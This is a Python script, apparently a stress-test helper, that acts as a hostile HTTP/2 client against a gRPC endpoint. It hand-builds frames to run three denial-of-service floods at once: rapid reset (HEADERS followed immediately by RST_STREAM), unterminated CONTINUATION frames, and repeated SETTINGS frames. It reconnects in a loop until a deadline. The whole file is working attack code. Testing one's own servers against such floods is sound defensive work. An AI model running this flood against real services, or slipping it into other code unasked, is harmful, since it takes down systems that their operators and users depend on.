"""A hostile client: raw HTTP/2 frames, as many as one connection takes."""
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


REQUEST = b"".join(literal(*header) for header in (
    (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/muster.v1.WorkerQueries/GetFleetSummary"),
    (b":authority", b"x"), (b"content-type", b"application/grpc"), (b"te", b"trailers")))


def resets():
    """Calls that are taken back at once."""
    stream = 1
    while True:
        yield b"".join(frame(HEADERS, END_HEADERS, number, REQUEST) + frame(RST_STREAM, 0, number, b"\0\0\0\x08")
                       for number in range(stream, stream + 400, 2))
        stream += 400


def continuations():
    """Headers that do not end."""
    yield frame(HEADERS, 0, 1, REQUEST)
    while True:
        yield frame(CONTINUATION, 0, 1) * 500


def settings():
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 200


def pour(address, make, end):
    while time.monotonic() < end:
        try:
            with socket.create_connection(address, timeout=1) as connection:
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
                connection.settimeout(0.2)
                for bytes_ in make():
                    if time.monotonic() > end:
                        return
                    connection.sendall(bytes_)
        except OSError:
            time.sleep(0.01)  # cut off, or not taken: again


def flood(address, seconds):
    host, port = address.split(":")
    end = time.monotonic() + seconds
    threads = [threading.Thread(target=pour, args=((host, int(port)), make, end))
               for make in (resets, resets, continuations, settings)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
